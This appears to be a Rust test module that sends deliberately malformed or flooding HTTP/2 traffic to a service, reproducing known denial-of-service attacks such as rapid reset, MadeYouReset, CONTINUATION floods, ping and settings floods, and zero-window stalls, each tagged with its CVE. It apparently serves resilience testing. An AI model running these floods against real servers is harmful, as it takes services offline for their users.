//! Those that break the rules of HTTP/2, or stretch them.

use std::io;

use ekm_tests::base64;
use ekm_tests::frames::*;
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::client::{Client, send, until_closed};
use crate::scenario::Protocol;

/// As many as the service lets in at a time.
const STREAMS: u32 = 64;

async fn open(client: &Client, settings: &[u8]) -> io::Result<TlsStream<TcpStream>> {
    let mut stream = client.tls(Protocol::Http2).await?;
    send(&mut stream, &[PREFACE, settings].concat()).await?;
    Ok(stream)
}

/// With the settings that every client may have.
async fn open_plainly(client: &Client) -> io::Result<TlsStream<TcpStream>> {
    open(client, &frame(SETTINGS, 0, 0, &[])).await
}

/// The head of a good wrap.
fn head(client: &Client) -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", &client.authority),
        (":path", &client.path),
        ("authorization", &client.bearer),
        ("content-type", "application/json"),
    ])
}

/// The stream of the n-th request.
fn stream(number: u64) -> u32 {
    (2 * number + 1) as u32 & 0x7fff_ffff
}

/// Requests that are taken back at once (CVE-2023-44487).
pub async fn rapid_reset(client: &Client) -> io::Result<()> {
    let head = head(client);
    let taken_back = |number| {
        let open = frame(HEADERS, END_HEADERS, stream(number), &head);
        [open, frame(RST_STREAM, 0, stream(number), &[0, 0, 0, 8])].concat()
    };
    client.flood_and_read(open_plainly(client).await?, taken_back).await
}

/// Requests that the server has to take back (CVE-2025-8671).
pub async fn made_you_reset(client: &Client) -> io::Result<()> {
    let head = head(client);
    let broken = |number| {
        let open = frame(HEADERS, END_HEADERS, stream(number), &head);
        [open, frame(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat()
    };
    client.flood_and_read(open_plainly(client).await?, broken).await
}

/// A head that goes on (CVE-2024-27316).
pub async fn continuation(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    send(&mut stream, &frame(HEADERS, 0, 1, &head(client))).await?;
    client.flood_and_read(stream, |_| frame(CONTINUATION, 0, 1, &literal("a", "b"))).await
}

/// Answers pile up (CVE-2019-9512).
pub async fn ping(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    client.flood(&mut stream, |number| frame(PING, 0, 0, &number.to_be_bytes())).await
}

/// Answers pile up (CVE-2019-9515).
pub async fn settings(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    client.flood(&mut stream, |_| frame(SETTINGS, 0, 0, &[])).await
}

/// A body without a byte and without an end (CVE-2019-9518).
pub async fn empty_data(client: &Client) -> io::Result<()> {
    let mut stream = open_plainly(client).await?;
    send(&mut stream, &frame(HEADERS, END_HEADERS, 1, &head(client))).await?;
    client.flood_and_read(stream, |_| frame(DATA, 0, 1, &[])).await
}

/// Good requests whose answers may not be sent (CVE-2019-9517).
pub async fn zero_window(client: &Client) -> io::Result<()> {
    let mut stream = open(client, &setting(INITIAL_WINDOW_SIZE, 0)).await?;
    let (head, body) = (head(client), format!("{{\"plaintext\":\"{}\"}}", base64([b'p'; 32])));
    let requests = (0..STREAMS).flat_map(|number| {
        let (id, body) = (2 * number + 1, body.as_bytes());
        [frame(HEADERS, END_HEADERS, id, &head), frame(DATA, END_STREAM, id, body)].concat()
    });
    send(&mut stream, &requests.collect::<Vec<_>>()).await?;
    until_closed(&mut stream).await
}
